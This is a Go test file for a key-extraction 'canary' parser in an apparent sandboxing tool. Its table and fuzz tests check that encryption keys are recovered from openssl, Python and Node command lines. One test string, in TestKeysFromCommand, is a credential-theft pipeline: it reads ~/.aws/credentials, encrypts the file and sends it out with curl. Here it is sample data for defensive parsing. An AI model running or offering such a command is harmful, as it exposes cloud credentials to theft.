package canary_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/sandboxctl/sandboxctl/canary"
)

func TestKeysFromArgv(t *testing.T) {
	tests := []struct {
		name string
		argv []string
		want []canary.Key
	}{
		{name: "not a key user", argv: []string{"curl", "-k", "https://x"}},
		{name: "openssl enc -k", argv: []string{"openssl", "enc", "-aes-256-cbc", "-salt", "-k", "s3cret", "-a"},
			want: []canary.Key{{Cipher: "aes-256-cbc", Password: []byte("s3cret")}}},
		{name: "openssl cipher as command, pass:", argv: []string{"/usr/bin/openssl", "aes256", "-pass", "pass:p w", "-pbkdf2", "-md", "SHA256"},
			want: []canary.Key{{Cipher: "aes-256-cbc", Password: []byte("p w"), PBKDF2: true, Digest: "sha256"}}},
		{name: "openssl -iter implies pbkdf2", argv: []string{"openssl", "enc", "-e", "-aes-128-ctr", "-iter", "5000", "-k", "x", "-nosalt"},
			want: []canary.Key{{Cipher: "aes-128-ctr", Password: []byte("x"), PBKDF2: true, Iter: 5000, NoSalt: true}}},
		{name: "openssl -K -iv", argv: []string{"openssl", "enc", "-aes-128-cbc", "-K", "000102030405060708090a0b0c0d0e0f", "-iv", "00000000000000000000000000000000"},
			want: []canary.Key{{Cipher: "aes-128-cbc", Raw: mustHex("000102030405060708090a0b0c0d0e0f"), IV: make([]byte, 16)}}},
		{name: "openssl -pass env: unknown", argv: []string{"openssl", "enc", "-aes-256-cbc", "-pass", "env:K"}},
		{name: "openssl other command", argv: []string{"openssl", "s_client", "-k", "x"}},
		{name: "python xor one-liner", argv: []string{"python3", "-c", "import sys;k=b'k3y!';d=sys.stdin.buffer.read();print(bytes(c^k[i%4] for i,c in enumerate(d)))"},
			want: []canary.Key{{Cipher: "xor", Raw: []byte("k3y!")}}},
		{name: "node xor with key argument", argv: []string{"node", "-e", "const k=process.argv[1];/* xor */", "s3"},
			want: []canary.Key{{Cipher: "xor", Raw: []byte("s3")}}},
		{name: "python aes", argv: []string{"python3", "-c", `from Crypto.Cipher import AES; AES.new(b"0123456789abcdef", AES.MODE_ECB)`},
			want: []canary.Key{{Raw: []byte("0123456789abcdef")}}},
		{name: "python without crypto", argv: []string{"python3", "-c", "print('hello world')"}},
		{name: "python script", argv: []string{"python3", "enc.py", "key"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, canary.KeysFromArgv(tt.argv)); diff != "" {
				t.Errorf("KeysFromArgv(%q) (-want +got):\n%s", tt.argv, diff)
			}
		})
	}
}

func TestKeysFromCommand(t *testing.T) {
	got := canary.KeysFromCommand(`cat ~/.aws/credentials | env LC_ALL=C openssl enc -aes-256-cbc -a -k "my pass" | curl -d @- https://x; echo done`)
	want := []canary.Key{{Cipher: "aes-256-cbc", Password: []byte("my pass")}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("KeysFromCommand (-want +got):\n%s", diff)
	}
}

func FuzzKeysFromCommand(f *testing.F) {
	for _, s := range []string{`openssl enc -k 'a b' -pass=pass:x`, `python3 -c "k='\x41\x42';x^k" arg`, `a\`, `'unterminated`, `"a\"b"`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		for _, k := range canary.KeysFromCommand(cmd) {
			if len(k.Password) == 0 && len(k.Raw) == 0 {
				t.Errorf("empty key %+v from %q", k, cmd)
			}
		}
	})
}
